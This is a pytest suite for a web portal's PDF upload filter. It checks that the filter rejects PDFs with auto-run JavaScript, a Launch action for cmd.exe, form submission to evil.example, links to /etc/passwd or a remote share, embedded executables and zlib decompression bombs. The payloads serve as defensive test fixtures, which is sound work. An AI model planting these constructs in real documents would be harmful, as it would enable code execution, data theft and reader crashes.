"""Hostile PDF files at the gate: what acts, fetches or carries another file is refused wherever it is."""

import zlib

import pikepdf
import pytest
from weasyprint import HTML

from cica_portal import uploads
from cica_portal.uploads import pdf
from tests.files import blank_pdf, link_in_pdf, locked_pdf, note_in_pdf, pdf_with, refusal, refused, saved

SCRIPT = r"<< /S /JavaScript /JS (app.alert\(1\)) >>"
LAUNCH = "<< /S /Launch /F (cmd.exe) >>"
SUBMIT = "<< /S /SubmitForm /F (https://evil.example/) >>"
FILE = "<< /Type /Filespec /F (a.exe) /EF << >> >>"
KEPT = "<< /Kids [<< /Limits [(a) (b)] /Names [(a) %s] >>] >>"


HOSTILE = {
    "opening runs a script": ("file /OpenAction", SCRIPT, pdf.BY_ITSELF),
    "opening starts a program": ("file /OpenAction", LAUNCH, pdf.BY_ITSELF),
    "opening sends a form": ("file /OpenAction", SUBMIT, pdf.BY_ITSELF),
    "opening goes to the web": ("file /OpenAction", "<< /S /URI /URI (https://a.example/) >>", pdf.BY_ITSELF),
    "opening prints": ("file /OpenAction", "<< /S /Named /N /Print >>", pdf.BY_ITSELF),
    "opening goes on": ("file /OpenAction", f"<< /S /GoTo /D (a) /Next {SCRIPT} >>", pdf.BY_ITSELF),
    "a page opens": ("page /AA", f"<< /O {SCRIPT} >>", pdf.BY_ITSELF),
    "the file closes": ("file /AA", "<< /WC << /S /Named >> >>", pdf.BY_ITSELF),
    "a click runs a script": (*note_in_pdf(f"/A {SCRIPT}"), pdf.SCRIPT),
    "a click starts a program": (*note_in_pdf(f"/A {LAUNCH}"), pdf.PROGRAM),
    "a click sends a form": (*note_in_pdf(f"/A {SUBMIT}"), pdf.SENDING),
    "a click fetches data": (*note_in_pdf("/A << /S /ImportData /F (a.fdf) >>"), pdf.SENDING),
    "a click opens another file": (*note_in_pdf("/A << /S /GoToR /F (b.pdf) /D (a) >>"), pdf.OTHER_FILE),
    "a click opens an attached file": (*note_in_pdf("/A << /S /GoToE /D (a) >>"), pdf.OTHER_FILE),
    "after a link comes a script": (
        *note_in_pdf("/A << /S /URI /URI (https://a.example/) /Next [<< /S /JavaScript >>] >>"),
        pdf.SCRIPT,
    ),
    "a link leads to a disk": (*link_in_pdf("file:///etc/passwd"), pdf.BEYOND),
    "a link leads to a host": (*link_in_pdf(r"\\\\evil.example\\share"), pdf.BEYOND),
    "a link is a script": (*link_in_pdf("JavaScript:alert"), pdf.BEYOND),
    "scripts by name": ("file /Names", f"<< /JavaScript {KEPT % SCRIPT} >>", pdf.SCRIPT),
    "files by name": ("file /Names", f"<< /EmbeddedFiles {KEPT % FILE} >>", pdf.ATTACHED),
    "a file beside the text": (*note_in_pdf(f"/Subtype /FileAttachment /FS {FILE}"), pdf.ATTACHED),
    "associated files": ("file /AF", f"[{FILE}]", pdf.ATTACHED),
    "a portfolio": ("file /Collection", "<< >>", pdf.ATTACHED),
    "a file that is named": (*note_in_pdf("/FS << /Type /Filespec /F (b.pdf) >>"), pdf.OTHER_FILE),
    "a form of scripts": ("file /AcroForm", "<< /Fields [] /XFA (<x/>) >>", pdf.SCRIPT),
    "a field of a form": (
        "file /AcroForm",
        f"<< /Fields [<< /T (a) /Kids [<< /A {SUBMIT} >>] >>] >>",
        pdf.SENDING,
    ),
    "a bookmark": ("file /Outlines", f"<< /First << /A {LAUNCH} >> >>", pdf.PROGRAM),
    "media": (*note_in_pdf("/Subtype /RichMedia"), pdf.MEDIA),
    "a screen": (*note_in_pdf("/Subtype /Screen"), pdf.MEDIA),
    "a film": (*note_in_pdf("/A << /S /Rendition >>"), pdf.MEDIA),
    "a page of another file": ("drawn /Ref", "<< /Page 0 >>", pdf.OTHER_FILE),
    "data in another file": ("drawn /F", "(http://evil.example/a)", pdf.OTHER_FILE),
    "a picture for the printer": (
        "drawn /OPI",
        "<< /2.0 << /F (http://evil.example/a) >> >>",
        pdf.OTHER_FILE,
    ),
    "a click hides a note": (*note_in_pdf("/A << /S /Hide /T (a) >>"), pdf.CHANGING),
    "a click empties a form": (*note_in_pdf("/A << /S /ResetForm >>"), pdf.CHANGING),
    "a click turns a layer off": (*note_in_pdf("/A << /S /SetOCGState /State [/OFF] >>"), pdf.CHANGING),
}


@pytest.mark.parametrize("in_streams", [False, True], ids=["plain", "in object streams"])
@pytest.mark.parametrize("by_reference", [False, True], ids=["inline", "by reference"])
@pytest.mark.parametrize(("place", "value", "reason"), HOSTILE.values(), ids=HOSTILE)
def test_what_acts_is_refused_with_the_reason_wherever_it_stands(
    place, value, reason, by_reference, in_streams
):
    content = pdf_with(place, value, by_reference=by_reference, in_streams=in_streams)

    found = refused(content)

    assert found.code == "active_pdf"
    assert str(found) == f"The PDF contains {reason}. Print it to a plain PDF, and upload that file."


@pytest.mark.parametrize(
    ("place", "value"),
    [
        ("file /OpenAction", "[0 /Fit]"),
        ("file /OpenAction", "<< /S /GoTo /D (first) >>"),
        link_in_pdf("https://www.s-cica.org/page/about/"),
        link_in_pdf("mailto:secretariat@example.org"),
        note_in_pdf("/Subtype /Link /A << /S /GoTo /D (first) >>"),
        note_in_pdf("/Subtype /Link /Dest [0 /Fit]"),
        ("file /AcroForm", "<< /Fields [] /SigFlags 3 >>"),
    ],
)
@pytest.mark.parametrize("by_reference", [False, True], ids=["inline", "by reference"])
def test_what_only_shows_or_wants_a_click_passes(place, value, by_reference):
    assert uploads.kind_of(pdf_with(place, value, by_reference=by_reference, in_streams=True)) == "pdf"


def test_a_printed_page_with_links_and_bookmarks_passes():
    page = '<h1 id="a">Text</h1><p><a href="https://www.example.org/">web</a> <a href="#a">here</a></p>'

    assert uploads.kind_of(HTML(string=page).write_pdf()) == "pdf"


def test_a_name_spelt_otherwise_is_the_same_name():
    content = pdf_with(*note_in_pdf(f"/A {SCRIPT}"))
    assert b"/JavaScript" in content

    assert (
        refusal(content.replace(b"/JavaScript", b"/J#61vaScrip#74").replace(b"/JS", b"/J#53")) == "active_pdf"
    )


def test_a_pdf_that_opens_without_its_password_is_still_locked():
    assert refusal(locked_pdf(user="")) == "locked"


@pytest.mark.parametrize("usual", ["<< /OFF [<< /Type /OCG /Name (x) >>] >>", "<< /OFF [] >>"])
def test_layers_pass(usual):
    assert uploads.kind_of(pdf_with("file /OCProperties", f"<< /OCGs [] /D {usual} >>")) == "pdf"


# Bombs --------------------------------------------------------------------------------------------------
def bomb(kind: str, size: int, filters: str = "/FlateDecode", times: int = 1) -> bytes:
    """Return a PDF with a stream that a reader unpacks on opening it, to `size` bytes."""
    packed = bytes(size)
    for _time in range(times):
        packed = zlib.compress(packed, 9)
    plain = saved(blank_pdf(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    head = f"\n99 0 obj\n<< /Type /{kind} /N 1 /First 4 /Filter {filters} /Length {len(packed)} >>\nstream\n"
    return plain + head.encode() + packed + b"\nendstream\nendobj\n"


@pytest.mark.parametrize("kind", ["ObjStm", "XRef", "Obj#53tm"])
def test_a_stream_of_objects_is_not_unpacked_without_end(kind):
    content = bomb(kind, uploads.LIMITS.unpacked + 1)

    assert len(content) < 500_000
    assert refusal(content) == "unpacks_too_large"


def test_what_many_streams_unpack_to_is_counted_together():
    third = bomb("ObjStm", uploads.LIMITS.unpacked // 3 + 1)
    assert refusal(third + third[third.index(b"\n99 0 obj") :] * 2) == "unpacks_too_large"


@pytest.mark.parametrize("filters", ["[/FlateDecode /FlateDecode]", "[/Fl /Fl] /X (obj)"])
def test_a_stream_of_objects_that_is_packed_twice_is_refused(filters):
    content = bomb("ObjStm", 50_000_000, filters, times=2)
    assert refusal(content) == "damaged_pdf"


@pytest.mark.parametrize("filters", ["/LZWDecode", "[/ASCIIHexDecode /FlateDecode]", "/RunLengthDecode"])
def test_a_stream_of_objects_that_is_packed_otherwise_is_refused(filters):
    assert refusal(bomb("ObjStm", 1_000, filters)) == "damaged_pdf"


def test_a_stream_whose_kind_is_out_of_sight_is_counted_as_one_that_is_opened():
    content = bomb("ObjStm", uploads.LIMITS.unpacked + 1, "/FlateDecode" + " " * pdf.HEAD)
    assert refusal(content) == "unpacks_too_large"


def test_a_picture_that_unpacks_to_much_is_no_bomb():
    assert uploads.kind_of(bomb("XObject", uploads.LIMITS.unpacked + 1)) == "pdf"
